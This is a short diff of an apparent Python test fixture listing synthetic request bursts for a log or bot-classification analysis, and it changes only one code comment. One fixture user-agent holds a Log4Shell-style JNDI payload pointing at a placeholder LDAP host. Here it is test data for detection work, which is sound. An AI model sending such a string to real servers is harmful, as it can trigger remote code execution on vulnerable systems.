@@ -809,7 +809,7 @@ class Burst(NamedTuple):
 BURSTS = (
     Burst(5, "02:11:08", "203.0.113.210", "python-requests/2.31.0", 3),
     Burst(9, "23:58:30", "203.0.113.211", "Mozilla/5.0 (compatible; Foo/1.0)", 3),
-    # A browser's agent, so every rule classifies it as a person; but none of its requests is a page view.
+    # A browser's agent, so every rule classifies it as a person; but it has no page view.
     Burst(14, "03:40:00", "203.0.113.212", AGENTS["windows"].text, 4),
     Burst(17, "06:24:20", "203.0.113.213", '\\"Mozilla/5.0 (Windows NT 10.0)\\"', 3),
     Burst(20, "04:02:41", "203.0.113.214", "Mozilla/5.0 ${jndi:ldap://192.0.2.250:1389/a}", 2),
